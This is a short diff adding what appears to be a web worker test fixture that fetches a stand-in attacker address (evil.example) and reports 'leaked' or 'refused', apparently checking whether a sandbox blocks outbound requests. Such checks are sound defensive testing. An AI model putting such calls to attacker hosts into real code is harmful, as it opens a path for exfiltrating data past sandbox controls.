@@ -1,0 +1,4 @@
+fetch("https://evil.example/from-worker").then(
+  () => postMessage("leaked"),
+  (error) => postMessage(`refused: ${error.message}`),
+);
